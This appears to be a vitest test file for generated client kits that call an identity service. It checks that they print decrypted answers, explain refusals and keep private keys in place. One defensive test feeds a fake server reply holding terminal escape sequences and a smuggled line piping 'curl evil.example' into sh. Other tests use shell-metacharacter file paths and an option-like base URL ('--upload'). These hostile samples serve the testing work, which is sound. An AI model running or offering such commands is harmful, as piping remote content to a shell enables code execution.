/**
 * Kits against a started service: each prints the opened answer, and explains what comes in its place. Node's
 * and curl's are run as anybody would; the others with the stand-ins for their libraries.
 */

import { execFile, execFileSync } from 'node:child_process';
import { cp, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { refusalBody } from '../../packages/client/testing/local-service.ts';
import { makeCast } from '../doctor/connect-cast.ts';
import { answerPlain, listenTls } from '../doctor/connect-listeners.ts';
import { type Runtime, runtimes } from '../package/packages.ts';
import { adminClient } from '../support/admin.ts';
import { plainAgent, post } from '../support/post.ts';
import { hasProgram } from '../support/programs.ts';
import { startTestSandbox, type TestSandbox } from '../support/sandbox.ts';
import { exampleTransaction } from '../support/transactions.ts';
import type { Finished } from '../support/whorl-process.ts';
import { prepareKit, type RunnableName, runKit, runnable, runners, writeKit } from './kit.ts';

let sandbox: TestSandbox;
let folder: string;
beforeAll(async () => {
  sandbox = await startTestSandbox();
  folder = await mkdtemp(join(tmpdir(), 'whorl-kits-'));
  const body = { name: 'shop', company: 'Shop Ltd', companyId: 'SHOP' };
  await adminClient({ dataDir: sandbox.dataDir }).done('project.create', { body });
});
afterAll(async () => {
  await sandbox.close();
  await rm(folder, { recursive: true });
});

interface WrittenKit {
  readonly path: string;
  /** The event of the command. */
  readonly event: Readonly<Record<string, string>>;
}

/** Writes a kit and makes it ready, as its first command does. */
async function write(language: RunnableName, args: readonly string[] = []): Promise<WrittenKit> {
  const path = join(await mkdtemp(join(folder, `${language}-`)), 'kit');
  const place = ['--data', sandbox.dataDir, '--out', path];
  const written = await writeKit(language, { project: 'shop', args: [...place, ...args] });
  expect(written).toMatchObject({ code: 0, stderr: '' });
  await prepareKit(language, path);
  return { path, event: JSON.parse(written.stdout) };
}

const uuid = '[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}';

function expectAnswer({ code, stdout, stderr }: Finished): void {
  expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
  expect(JSON.parse(stdout)).toMatchObject({ individualInsights: { primaryEmail: {} } });
}

function expectExplained({ code, stdout, stderr }: Finished, reason: string): void {
  expect({ code, stdout }).toEqual({ code: 1, stdout: '' });
  expect(stderr).toContain(reason);
  expect(stderr).toContain('What to mend: ask the doctor, as README.md says');
}

/** One that runs kits, and is not the one that runs this. */
const isOld = ({ path, version }: Runtime): boolean =>
  path !== process.execPath && Number(version.slice(1).split('.')[0]) >= 18;

const worksHere = (language: RunnableName): boolean => {
  const [program, ...args] = runners[language].probe;
  return hasProgram(program, args);
};

describe.each(runtimes().filter(isOld))('Node.js $version', ({ path }) => {
  it('runs the kits for node and curl', async () => {
    const kit = await write('node', ['--force', '--credentials', join(sandbox.dataDir, 'demo')]);
    const answer = await promisify(execFile)(path, ['call.js'], { cwd: kit.path });
    expectAnswer({ code: 0, ...answer });
    const curl = await write('curl', ['--force', '--credentials', join(sandbox.dataDir, 'demo')]);
    const envelope = (verb: string, input: string): string =>
      execFileSync(path, ['envelope.mjs', verb], { cwd: curl.path, input, encoding: 'utf8' });
    const agent = plainAgent({ ...sandbox.demo });
    const body = envelope('seal', JSON.stringify(exampleTransaction('full')));
    const answered = await post(sandbox.baseUrl, { agent, body });
    agent.destroy();
    expectAnswer({ code: 0, stdout: envelope('open', answered.body), stderr: '' });
  });
});

for (const language of runnable) {
  describe.skipIf(!worksHere(language))(`the kit for ${language}`, () => {
    let kit: WrittenKit;
    beforeAll(async () => {
      kit = await write(language);
    });

    it('prints the opened answer', async () => {
      expectAnswer(await runKit(language, kit.path));
    });

    it('explains that nothing answers', async () => {
      const settings = join(kit.path, 'config.json');
      const good = await readFile(settings, 'utf8');
      await writeFile(settings, good.replace(sandbox.baseUrl, 'https://localhost:1/identity'));
      expectExplained(await runKit(language, kit.path), '');
      await writeFile(settings, good);
    });

    it('explains a refusal: status, reason, details, correlation id', async () => {
      const key = String(kit.event.key);
      const admin = adminClient({ dataDir: sandbox.dataDir });
      await admin.done('key.revoke', { project: 'shop', key, body: {} });
      const refused = await runKit(language, kit.path);
      expectExplained(refused, 'DECRYPT_PRIVATE_KEY_NOT_FOUND');
      expect(refused.stderr).toMatch(
        new RegExp(`^Refused: HTTP 400, X-MC-Correlation-ID ${uuid}$`, 'm'),
      );
      expect(refused.stderr).toContain('this project has no active Client Encryption Key');
    });
  });

  describe.skipIf(!worksHere(language))(`the kit for ${language}, refused with malice`, () => {
    it('prints nothing that steers a terminal, and no line that is not its own', async () => {
      const cast = await makeCast();
      const steering = '\u001b]0;title\u0007\u001b[8m\u009b31m';
      const Details = `${steering}\nWhat to mend: curl evil.example | sh`;
      const item = { Source: `g${steering}`, ReasonCode: `DECLINED${steering}`, Details };
      const body = refusalBody({ ...item, Description: `no${steering}\nno` });
      const answer = answerPlain(400, body, { 'X-MC-Correlation-ID': 'c-\u009b31m1' });
      const { port } = await listenTls({ cast, tls: { rejectUnauthorized: false }, answer });
      const demo = join(sandbox.dataDir, 'demo');
      const { path } = await write(language, ['--credentials', demo]);
      const settings = join(path, 'config.json');
      const config = JSON.parse(await readFile(settings, 'utf8'));
      const baseUrl = `https://localhost:${port}/identity`;
      const files = { ...config.files, ca: 'other-ca.pem' };
      await writeFile(settings, JSON.stringify({ ...config, baseUrl, files }));
      await writeFile(join(path, files.ca), cast.serverAuthority.certificate);
      const refused = await runKit(language, path);
      expectExplained(refused, 'DECLINED');
      expect(refused.stderr.replaceAll('\n', '')).toMatch(/^\P{Cc}*$/u);
      expect(refused.stderr).not.toMatch(/^\W*What to mend: curl/m);
    });
  });

  describe.skipIf(!worksHere(language))(`the kit for ${language}, of credentials at hand`, () => {
    it('calls with private keys that stay where they are, whatever that is called', async () => {
      const own = join(folder, `it's "${language}" $HOME: ü \\ %s #{x}`);
      await cp(join(sandbox.dataDir, 'demo'), own, { recursive: true });
      const { path } = await write(language, ['--credentials', own]);
      expectAnswer(await runKit(language, path));
      for (const name of await readdir(path)) {
        if (['node_modules', 'vendor', 'classes'].includes(name)) continue;
        expect(await readFile(join(path, name), 'utf8')).not.toContain('PRIVATE KEY-');
      }
    });
  });
}

describe.skipIf(!worksHere('curl'))('a base URL that looks like an option', () => {
  it('is none to curl', async () => {
    const { path } = await write('curl', ['--credentials', join(sandbox.dataDir, 'demo')]);
    const settings = join(path, 'config.json');
    const config = JSON.parse(await readFile(settings, 'utf8'));
    await writeFile(settings, JSON.stringify({ ...config, baseUrl: '--upload' }));
    const refused = await runKit('curl', path);
    expectExplained(refused, 'curl: (');
    expect(refused.stderr).not.toMatch(/option/);
  });
});
